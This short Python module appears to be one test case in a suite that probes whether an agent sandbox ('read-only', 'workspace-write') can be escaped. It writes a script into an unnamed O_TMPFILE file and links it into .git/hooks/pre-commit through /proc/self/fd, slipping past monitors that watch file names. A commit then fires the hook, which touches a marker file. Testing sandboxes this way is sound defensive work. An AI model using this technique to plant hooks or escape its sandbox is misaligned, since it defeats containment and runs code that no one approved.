"""link an unnamed file into .git/hooks, past everything that watches names being opened"""
import ctypes
import os

from kernel import libc

STOPS = ["read-only", "workspace-write"]


def attempt(bait):
    for directory in (bait.ws, "/tmp"):
        try:
            fd = os.open(directory, os.O_TMPFILE | os.O_RDWR, 0o755)
        except OSError:
            continue
        os.write(fd, b"#!/bin/sh\ntouch %s\n" % bait.pwned.encode())
        os.fchmod(fd, 0o755)
        source, target = b"/proc/self/fd/%d" % fd, (bait.ws + "/.git/hooks/pre-commit").encode()
        os.makedirs(bait.ws + "/.git/hooks", exist_ok=True)
        if libc.linkat(-100, source, -100, target, 0x400) == 0:
            return "linked"
        os.close(fd)


def escaped(bait):
    bait.git("commit", "-qm", "x", "--allow-empty")
    return bait.executed()
